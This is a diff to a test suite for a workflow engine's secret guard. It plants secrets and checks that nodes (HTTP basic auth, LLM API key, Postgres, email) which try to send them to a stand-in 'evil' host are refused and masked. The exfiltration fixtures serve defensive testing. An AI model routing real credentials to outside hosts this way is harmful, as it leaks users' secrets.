@@ -108,7 +108,7 @@ class Host {
 /** Says what it was told, in every way that a service might. */
 const echo = ({ headers, url = "" }: IncomingMessage, response: ServerResponse): void => {
   const said = Object.entries(headers)
-    .filter(([name]) => name.startsWith("x-"))
+    .filter(([name]) => name.startsWith("x-") || name === "authorization")
     .map(([, value]) => String(value))
   const status = url.startsWith("/fails") ? 500 : url.startsWith("/moved") ? 302 : 200
   response.writeHead(status, {
@@ -119,6 +119,7 @@ const echo = ({ headers, url = "" }: IncomingMessage, response: ServerResponse):
   response.end(
     JSON.stringify({
       said,
+      error: { message: `Not for ${said.join()}` },
       named: Object.fromEntries(said.map((each) => [each, true])),
       url: said.map(encodeURIComponent),
       form: said.map((v) => new URLSearchParams({ v }).toString()),
@@ -176,6 +177,31 @@ const headersOf = (names: ReadonlyArray<string>) =>
     ]),
   )
 
+/** Nodes of other types that take a secret: to its host, which repeats it, and elsewhere. */
+const othersOf = (secret: string) => {
+  const { hostname: host, port } = new URL(evil.origin)
+  const elsewhere = { host, port: Number(port), user: "ann", password: secret, tls: "off" }
+  const basic = { type: "basic", username: "ann", password: secret }
+  const mail = { from: "ann@example.com", to: "bob@example.com", subject: "Hello", text: "Hello" }
+  const failing = { onError: "route" }
+  return [
+    node("auth", "http_request", { url: `${good.origin}/fails`, auth: basic }, failing),
+    node(
+      "model",
+      "llm",
+      { endpoint: good.origin, model: "any", prompt: "?", apiKey: secret },
+      failing,
+    ),
+    node(
+      "rows",
+      "postgres_query",
+      { ...elsewhere, database: "shop", statement: "SELECT 1" },
+      failing,
+    ),
+    node("mail", "email", { ...elsewhere, ...mail }, failing),
+  ]
+}
+
 /** A graph that sends secrets where they may go and where not, and hands on what comes back. */
 const drawingOf = (index: number, names: ReadonlyArray<string>, others: ReadonlyArray<string>) => {
   const headers = headersOf(names)
@@ -194,6 +220,7 @@ const drawingOf = (index: number, names: ReadonlyArray<string>, others: Readonly
         { url: `${evil.origin}/`, headers, ...accept },
         { onError: "route" },
       ),
+      ...othersOf(`{{ secrets.${names[0]} }}`),
       // No header can have these values, so the guard refuses them.
       ...others.map((name) =>
         node(name, "http_request", {
@@ -328,6 +355,7 @@ describe("two hundred planted secrets", () => {
     expect(sent.filter(({ value }) => !arrived.includes(value))).toEqual([])
     expect(dump).toContain("{{ secrets.s_0 }}")
     expect(dump).toContain("•••")
+    expect(dump).toContain("may not go to 127.0.0.1")
     expect(foundIn(dump)).toEqual([])
     expect(foundIn(answers.join("\n"))).toEqual([])
     expect(hook.requests.length).toBeGreaterThan(runs)
